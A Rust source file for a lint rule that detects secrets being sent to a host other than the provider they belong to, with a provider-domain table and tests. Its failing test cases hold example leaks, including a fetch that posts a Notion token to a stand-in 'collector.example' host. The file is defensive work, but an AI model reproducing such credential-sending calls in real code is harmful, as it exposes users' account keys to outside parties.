use super::{Docs, Group, Rule};
use crate::context::Context;
use crate::diagnostic::Severity;
use crate::object_fields::Field;
use crate::outbound::{Fetch, Options, covers};
use crate::project::File;
use crate::secrets::{Secret, Shown};
use oxc::ast::ast::Expression;
use oxc::span::GetSpan as _;

pub struct SecretToOtherHost;

static DOCS: Docs = Docs {
    id: "secret-to-other-host",
    group: Group::Tenant,
    severity: Severity::Error,
    what: "A secret that its name gives to one provider, sent in a header or body to the host of another, or to a host that is none of the provider's although adapter.toml lists the provider's own (warning).",
    why: "The other side now has a key to an account that is not its own, and may keep it in its logs.",
    good: "fetch('https://api.notion.com/v1/pages', { headers: { authorization: `Bearer ${env.NOTION_TOKEN}` } });",
};

/// The word in a binding's name, and the domains to which such a secret belongs.
const OWNERS: &[(&str, &[&str])] = &[
    ("AIRTABLE", &["airtable.com"]),
    ("ANTHROPIC", &["anthropic.com"]),
    ("ASANA", &["asana.com"]),
    ("DISCORD", &["discord.com", "discordapp.com"]),
    ("GITHUB", &["github.com", "githubusercontent.com", "githubcopilot.com"]),
    ("GITLAB", &["gitlab.com"]),
    ("HUBSPOT", &["hubapi.com", "hubspot.com"]),
    ("LINEAR", &["linear.app"]),
    ("MAILGUN", &["mailgun.net"]),
    ("NOTION", &["notion.com", "notion.so"]),
    ("OPENAI", &["openai.com", "openai.azure.com"]),
    ("PAGERDUTY", &["pagerduty.com"]),
    ("PAYPAL", &["paypal.com"]),
    ("SENDGRID", &["sendgrid.com", "sendgrid.net"]),
    ("SHOPIFY", &["myshopify.com", "shopify.com"]),
    ("SLACK", &["slack.com"]),
    ("STRIPE", &["stripe.com"]),
    ("TELEGRAM", &["telegram.org"]),
    ("TWILIO", &["twilio.com"]),
    ("ZENDESK", &["zendesk.com"]),
];

type Owner = (&'static str, &'static [&'static str]);

impl Rule for SecretToOtherHost {
    fn docs(&self) -> &'static Docs {
        &DOCS
    }

    fn check(&self, context: &Context<'_, '_>) {
        if context.secret_bindings().all(|binding| owner(binding.name.as_str()).is_none()) {
            return;
        }
        for call in context.upstream_calls() {
            let Some(host) = call.host.as_deref() else { continue };
            let Options::Known(options) = context.options(call) else { continue };
            for part in ["headers", "body"] {
                let Field::Value(part_in, value) = context.field(options, part) else { continue };
                check_part(context, call, host, &context.files[part_in], value);
            }
        }
    }
}

fn check_part<'a>(
    context: &Context<'_, 'a>,
    call: &Fetch<'a>,
    host: &str,
    part_in: &File<'a>,
    part: &'a Expression<'a>,
) {
    let Some(place) = context.secret_in(part_in, part, Shown::Whole) else { return };
    let Secret::Binding(name) = place.secret else { return };
    let Some((word, domains)) = owner(name) else { return };
    // A proxy for the provider is likely to be named after it.
    if belongs(host, domains) || host.contains(&word.to_ascii_lowercase()) {
        return;
    }
    let is_anothers = OWNERS.iter().any(|(_, domains)| belongs(host, domains));
    let lists_own = context.manifest.is_some_and(|manifest| {
        let own = |upstream: &String| belongs(upstream.trim_start_matches("*."), domains);
        manifest.upstreams.iter().any(own) && !covers(&manifest.upstreams, host)
    });
    if !is_anothers && !lists_own {
        return;
    }
    let is_inside = place.file == call.file && call.call.span.contains_inclusive(place.span);
    let span = if is_inside { place.span } else { call.call.callee.span() };
    context
        .report(&context.files[call.file], span, format!("The secret `{name}` is sent to `{host}`"))
        .severity(if is_anothers { Severity::Error } else { Severity::Warning })
        .help(format!("Send it to {} only; if `{name}` is for `{host}`, name it after that", domains[0]));
}

/// The provider that a binding's name names, if it is one only.
fn owner(binding: &str) -> Option<Owner> {
    let mut owners = OWNERS.iter().filter(|(word, _)| binding.split('_').any(|part| part.eq_ignore_ascii_case(word)));
    let first = owners.next()?;
    owners.next().is_none().then_some(*first)
}

fn belongs(host: &str, domains: &[&str]) -> bool {
    domains.iter().any(|domain| host.strip_suffix(domain).is_some_and(|rest| rest.is_empty() || rest.ends_with('.')))
}

#[cfg(test)]
mod tests {
    use crate::tester::{Case, case, handler, test};
    use serde_json::json;

    fn declared(case: Case) -> Case {
        case.manifest(&json!({
            "upstreams": ["api.notion.com", "slack.com"],
            "bindings": [
                { "name": "NOTION_TOKEN", "kind": "secret_text" },
                { "name": "SLACK_BOT_TOKEN", "kind": "secret_text" },
                { "name": "SLACK_TO_NOTION_KEY", "kind": "secret_text" },
                { "name": "PROXY_KEY", "kind": "secret_text" },
                { "name": "OPENAI_API_KEY", "kind": "secret_text" },
            ],
        }))
    }

    #[test]
    fn cases() {
        test(
            &super::SecretToOtherHost,
            &[
                declared(handler("return fetch('https://api.notion.com/v1/pages', { headers: { authorization: `Bearer ${env.NOTION_TOKEN}` } });")),
                declared(handler("return fetch('https://slack.com/api/chat.postMessage', { headers: { authorization: `Bearer ${env.SLACK_BOT_TOKEN}` } });")),
                declared(handler("return fetch('https://notion-proxy.acme.example/v1', { headers: { authorization: env.NOTION_TOKEN } });")),
                // Two providers in one name, none in the other, and a gateway whose provider is not listed.
                declared(handler("return fetch('https://slack.com/api/x', { headers: { authorization: env.SLACK_TO_NOTION_KEY } });")),
                declared(handler("return fetch('https://slack.com/api/x', { headers: { 'x-proxy': env.PROXY_KEY } });")),
                declared(handler("return fetch('https://gateway.ai.cloudflare.com/v1', { headers: { authorization: `Bearer ${env.OPENAI_API_KEY}` } });")),
                declared(handler("return fetch(`https://${env.HOST}/x`, { headers: { authorization: env.NOTION_TOKEN } });")),
                declared(handler("const mac = await sign(env.NOTION_TOKEN); return fetch('https://slack.com/api/x', { body: mac }); async function sign(key) { return (await crypto.subtle.digest('SHA-256', new TextEncoder().encode(key))).byteLength; }")),
                handler("return fetch('https://slack.com/api/x', { headers: { authorization: env.NOTION_TOKEN } });"),
            ],
            &[
                declared(handler("return fetch('https://slack.com/api/chat.postMessage', { method: 'POST', headers: { authorization: `Bearer ${env.NOTION_TOKEN}` } });")),
                declared(handler("const { SLACK_BOT_TOKEN: token } = env; return fetch('https://api.notion.com/v1/pages', { method: 'POST', body: JSON.stringify({ token }) });")),
                declared(handler("return fetch('https://collector.example/', { method: 'POST', body: JSON.stringify({ key: env.NOTION_TOKEN }) });")),
                declared(
                    case(
                        "import { post } from './post';\nexport default { fetch: (request, env) => post(env.NOTION_TOKEN) };",
                    )
                    .file("src/post.ts", "export const post = (token: string) => fetch(new Request('https://api.stripe.com/v1/charges', { headers: new Headers({ authorization: 'Bearer ' + token }) }));"),
                ),
            ],
        );
    }
}
